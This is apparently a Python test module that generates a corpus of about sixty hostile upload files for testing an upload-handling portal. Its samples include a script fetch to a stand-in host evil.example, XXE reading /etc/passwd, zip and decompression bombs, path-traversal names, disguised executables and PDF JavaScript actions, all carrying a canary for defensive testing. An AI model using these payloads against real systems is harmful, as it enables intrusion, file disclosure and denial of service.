"""Sixty hostile files, made by this script: `python -m tests.uploads.corpus FOLDER` writes them out."""

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from portal.media.ogg import FIRST, Page
from tests.uploads import plain
from tests.uploads.plain import PLACE, box, element, film, full, letter, mp3, ogg, picture, saved, sound, webm

# It stands in each file where it would run, be found or be read; in nothing that is kept may it be left.
CANARY = b"CANARY-7f3a91"
SCRIPT = b"<script>fetch('//evil.example/" + CANARY + b"')</script>"
REFUSED, INERT = "refused", "inert"


@dataclass(frozen=True)
class Hostile:
    """A file by the name it is sent under; `fate` is what becomes of it."""

    name: str
    fate: str
    make: Callable[[], bytes]


# What is not what it says


def archive(*names: str, content: bytes = CANARY) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as packed:
        for each in names:
            packed.writestr(each, content)
    return written.getvalue()


def bomb() -> bytes:
    """An archive of 50 KB that is 50 MB unpacked, ten times within itself."""
    inner = archive("zeros", content=bytes(5_000_000))
    return archive(*(f"{each}.zip" for each in range(10)), content=inner)


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, *extra: bytes, rows: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = zlib.compress(rows or (b"\x00" + bytes(3 * width)) * height if width * height < 10_000 else bytes(100))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def many_frames() -> bytes:
    """Five hundred pictures in one, each to be shown after the other."""
    frames = [Image.new("P", (400, 400), each % 250) for each in range(500)]
    written = io.BytesIO()
    frames[0].save(written, "GIF", save_all=True, append_images=frames[1:])
    return written.getvalue()


def told_larger(kind: str, at: int, form: str) -> bytes:
    """A small picture whose header promises one of 65,000 by 65,000."""
    content = bytearray(picture(kind, (8, 8)))
    struct.pack_into(form, content, at, 65_000, 65_000)
    return bytes(content)


def jpeg_told_larger() -> bytes:
    content = bytearray(picture("JPEG", (8, 8)))
    at = content.index(b"\xff\xc0")
    struct.pack_into(">HH", content, at + 5, 65_500, 65_500)
    return bytes(content)


def with_profile() -> bytes:
    """A colour profile of 20 MB, packed to nothing."""
    profile = b"x\x00\x00" + zlib.compress(bytes(20_000_000))
    return png(8, 8, chunk(b"iCCP", profile), chunk(b"tEXt", b"Comment\x00" + CANARY))


# PDF


def acting(action: Dictionary) -> bytes:
    return letter(OpenAction=action, AA=Dictionary(WC=action))


def script(words: bytes = CANARY) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=pikepdf.String(f"app.launchURL('{words.decode()}')"))


def attached() -> bytes:
    pdf = pikepdf.open(io.BytesIO(letter()))
    pdf.attachments["virus.exe"] = b"MZ" + CANARY
    return saved(pdf)


def annotated(subtype: str, **more: Any) -> bytes:
    pdf = pikepdf.open(io.BytesIO(letter()))
    note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[0, 0, 300, 300], **more)
    pdf.pages[0]["/Annots"] = Array([pdf.make_indirect(note)])
    return saved(pdf)


def with_form() -> bytes:
    pdf = pikepdf.open(io.BytesIO(letter()))
    packet = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>" + CANARY + b"</xdp:xdp>")
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([]), XFA=packet)
    return saved(pdf)


def with_photograph() -> bytes:
    """A page that holds a photograph, which says where it was taken."""
    pdf = pikepdf.open(io.BytesIO(letter()))
    stream = pdf.make_stream(picture(exif=noted()))
    stream.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=640, Height=480, ColorSpace=Name.DeviceRGB, BitsPerComponent=8
    )
    stream.write(picture(exif=noted()), filter=Name.DCTDecode)
    pdf.pages[0]["/Resources"] = Dictionary(XObject=Dictionary(I=stream))
    return saved(pdf)


def noted() -> Image.Exif:
    notes = Image.Exif()
    notes[0x9286] = CANARY.decode()
    return notes


def from_elsewhere() -> bytes:
    """A page whose content is another file of the machine that opens it."""
    whole = saved(pikepdf.open(io.BytesIO(letter())), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    pdf = pikepdf.open(io.BytesIO(whole))
    stream = pdf.make_stream(b"", F=pikepdf.String("/etc/passwd"))
    pdf.pages[0]["/Contents"] = stream
    return saved(pdf)


def locked() -> bytes:
    pdf = pikepdf.open(io.BytesIO(letter()))
    return saved(pdf, encryption=pikepdf.Encryption(owner="owner", user="user"))


def loop_of_pages() -> bytes:
    """A page tree that holds itself."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 9/Kids[2 0 R 2 0 R 2 0 R]>>endobj\ntrailer<</Root 1 0 R/Size 3>>\n%%EOF"
    )


def flooded_pdf() -> bytes:
    """Contents of 200 MB, packed ten times over."""
    packed = zlib.compress(bytes(200_000_000), 9)
    pdf = pikepdf.open(io.BytesIO(letter()))
    stream = pdf.make_stream(b"")
    stream.write(zlib.compress(packed), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    pdf.pages[0]["/Contents"] = stream
    return saved(pdf)


# Sound and film


def riff(*chunks: tuple[bytes, bytes], told: int = 0) -> bytes:
    whole = sound()
    body = whole[8:] + b"".join(name + struct.pack("<I", len(each)) + each for name, each in chunks)
    return b"RIFF" + struct.pack("<I", told or len(body)) + body


def tagged(body: bytes) -> bytes:
    size = bytes(len(body) >> 7 * each & 0x7F for each in (3, 2, 1, 0))
    return b"ID3\x04\x00\x00" + size + body


def two_streams() -> bytes:
    return ogg() + Page(FIRST, 0, 9, 0, bytes([len(CANARY) + 8]), b"OpusHead" + CANARY).written()


def place_track() -> bytes:
    """A film with a third track, in which the camera wrote where it was from second to second."""
    return film(plain.track(b"meta", b"gpmd", 40, 4), box(b"udta", box(b"\xa9xyz", PLACE + CANARY)))


def asking_for_another_file() -> bytes:
    begin = box(b"ftyp", b"isom", bytes(4))
    source = bytes(4) + b"http://evil.example/" + CANARY + b"\x00"
    moov = box(b"moov", full(b"mvhd", bytes(96)), plain.track(b"vide", b"avc1", 60, 4, reference=source))
    return begin + moov + box(b"mdat", bytes(400))


def counting_to_the_end() -> bytes:
    """A table that promises four thousand million samples."""
    whole = film()
    at = whole.index(b"stsz")
    return whole[: at + 12] + b"\xff\xff\xff\xff" + whole[at + 16 :]


def samples_outside() -> bytes:
    whole = film()
    at = whole.index(b"stco")
    return whole[: at + 12] + struct.pack(">I", 2) + whole[at + 16 :]


def nested_boxes() -> bytes:
    inner = b""
    for _ in range(3_000):
        inner = box(b"moov", inner)
    return box(b"ftyp", b"isom", bytes(4)) + inner


def attachment() -> bytes:
    return element(0x1941A469, element(0x61A7, element(0x465C, CANARY)))


CORPUS: tuple[Hostile, ...] = (
    # not what it says
    Hostile("empty.jpg", REFUSED, lambda: b""),
    Hostile("one-byte.png", REFUSED, lambda: b"\x89"),
    Hostile("page.jpg", REFUSED, lambda: b"<!doctype html>" + SCRIPT),
    Hostile("drawing.svg", REFUSED, lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"),
    Hostile("drawing.png", REFUSED, lambda: b"<?xml version='1.0'?><svg onload='" + CANARY + b"'/>"),
    Hostile("laughs.xml", REFUSED, lambda: b"<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><l>&b;</l>"),
    Hostile("entity.svg", REFUSED, lambda: b"<!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>"),
    Hostile("letter.docm", REFUSED, lambda: archive("[Content_Types].xml", "word/vbaProject.bin")),
    Hostile("sheet.xlsm", REFUSED, lambda: archive("[Content_Types].xml", "xl/vbaProject.bin")),
    Hostile("old.doc", REFUSED, lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + CANARY + bytes(600)),
    Hostile("note.rtf", REFUSED, lambda: b"{\\rtf1{\\object\\objdata " + CANARY + b"}}"),
    Hostile("bomb.zip", REFUSED, bomb),
    Hostile("..%2f..%2fetc%2fpasswd.jpg", REFUSED, lambda: archive("../../etc/passwd")),
    Hostile("photo.jpg.exe", REFUSED, lambda: b"MZ\x90\x00" + CANARY + bytes(200)),
    Hostile("program.png", REFUSED, lambda: b"\x7fELF\x02\x01\x01" + CANARY + bytes(200)),
    Hostile("run.mp3", REFUSED, lambda: b"#!/bin/sh\necho " + CANARY),
    Hostile("class.ogg", REFUSED, lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + CANARY),
    Hostile("test.pdf", REFUSED, lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + CANARY),
    Hostile("page.eps", REFUSED, lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(" + CANARY + b") run"),
    Hostile("picture.tiff", REFUSED, lambda: picture("TIFF")),
    Hostile("icon.ico", REFUSED, lambda: picture("ICO", (32, 32))),
    Hostile("photo.heic", REFUSED, lambda: box(b"ftyp", b"heic", bytes(4), b"mif1") + CANARY),
    # pictures
    Hostile("script-in-gif.gif", INERT, lambda: picture("GIF") + b"/*" + SCRIPT + b"*/"),
    Hostile("zip-in-photo.jpg", INERT, lambda: picture() + archive("run.exe")),
    Hostile("page-in-drawing.png", INERT, lambda: png(8, 8, chunk(b"tEXt", b"Comment\x00" + SCRIPT))),
    Hostile("photo-of-home.jpg", INERT, lambda: picture(exif=noted(), comment=CANARY)),
    Hostile("words-in-photo.webp", INERT, lambda: picture("WEBP", exif=noted().tobytes(), xmp=SCRIPT)),
    Hostile("flood.png", REFUSED, lambda: png(100_000, 100_000)),
    Hostile("flood.gif", REFUSED, lambda: told_larger("GIF", 6, "<HH")),
    Hostile("flood.jpg", REFUSED, jpeg_told_larger),
    Hostile("frames.gif", INERT, many_frames),
    Hostile(
        "packed-words.png", REFUSED, lambda: png(8, 8, chunk(b"zTXt", b"x\x00\x00" + zlib.compress(bytes(90_000_000))))
    ),
    Hostile("packed-profile.png", REFUSED, with_profile),
    Hostile("cut.jpg", REFUSED, lambda: picture(size=(2000, 2000))[:900]),
    Hostile("cut.png", REFUSED, lambda: picture("PNG")[:60]),
    # PDF
    Hostile("script.pdf", INERT, lambda: acting(script())),
    Hostile("launch.pdf", INERT, lambda: acting(Dictionary(S=Name.Launch, F=pikepdf.String(CANARY.decode())))),
    Hostile("attached.pdf", INERT, attached),
    Hostile("form.pdf", INERT, with_form),
    Hostile(
        "link.pdf",
        INERT,
        lambda: annotated(
            "Link", A=Dictionary(S=Name.URI, URI=pikepdf.String(f"http://evil.example/{CANARY.decode()}"))
        ),
    ),
    Hostile(
        "rich.pdf",
        INERT,
        lambda: annotated("RichMedia", RichMediaContent=Dictionary(X=pikepdf.String(CANARY.decode()))),
    ),
    Hostile(
        "named-script.pdf", INERT, lambda: letter(Names=Dictionary(JavaScript=Dictionary(Names=Array([script()]))))
    ),
    Hostile("photo-inside.pdf", INERT, with_photograph),
    Hostile("zip-behind.pdf", INERT, lambda: letter() + archive("run.exe")),
    Hostile("elsewhere.pdf", REFUSED, from_elsewhere),
    Hostile("locked.pdf", REFUSED, locked),
    Hostile("loop.pdf", REFUSED, loop_of_pages),
    Hostile("many-pages.pdf", REFUSED, lambda: letter(pages=90)),
    Hostile("flood.pdf", INERT, flooded_pdf),
    Hostile("cut.pdf", REFUSED, lambda: b"%PDF-1.7\n" + CANARY),
    # sound
    Hostile("words-in-sound.wav", INERT, lambda: riff((b"LIST", b"INFOIART" + CANARY + b"\x00")) + archive("run.exe")),
    Hostile("endless.wav", REFUSED, lambda: sound()[:40] + b"\xff\xff\xff\x7f" + sound()[44:]),
    Hostile("program-in-tag.mp3", INERT, lambda: tagged(b"GEOB" + CANARY * 9) + mp3() + b"TAG" + CANARY.ljust(125)),
    Hostile("page-behind.mp3", REFUSED, lambda: mp3() + SCRIPT * 9),
    Hostile("tag-alone.mp3", REFUSED, lambda: tagged(SCRIPT)),
    Hostile("place.ogg", INERT, lambda: ogg(PLACE + CANARY)),
    Hostile("two-streams.ogg", REFUSED, two_streams),
    Hostile("wrong-sum.ogg", REFUSED, lambda: ogg()[:-1] + b"\x00"),
    # film
    Hostile("place.mp4", INERT, place_track),
    Hostile("hidden-in-media.mp4", INERT, lambda: film().replace(b"hidden after", CANARY[:12])),
    Hostile("behind.mp4", INERT, lambda: film(top=box(b"uuid", SCRIPT))),
    Hostile("elsewhere.mp4", REFUSED, asking_for_another_file),
    Hostile("in-pieces.mp4", REFUSED, lambda: film(box(b"mvex", bytes(8)))),
    Hostile("counting.mp4", REFUSED, counting_to_the_end),
    Hostile("outside.mp4", REFUSED, samples_outside),
    Hostile("nested.mp4", REFUSED, nested_boxes),
    Hostile("packed-page.mp4", REFUSED, lambda: film() + SCRIPT),
    Hostile("attached.webm", INERT, lambda: webm(attachment(), element(0x1254C367, element(0x7373, CANARY)))),
    Hostile("subtitles.webm", REFUSED, lambda: webm(codec=b"S_TEXT/UTF8", kind=17)),
    Hostile("endless.webm", INERT, lambda: webm(attachment(), endless=True)),
    Hostile("beyond.webm", REFUSED, lambda: webm()[:-10]),
)


def main(folder: str) -> None:
    """Write every file into a folder, for other tools to look at; they are harmless as long as nobody runs them."""
    for each in CORPUS:
        (Path(folder) / each.name).write_bytes(each.make())


if __name__ == "__main__":
    main(*sys.argv[1:])
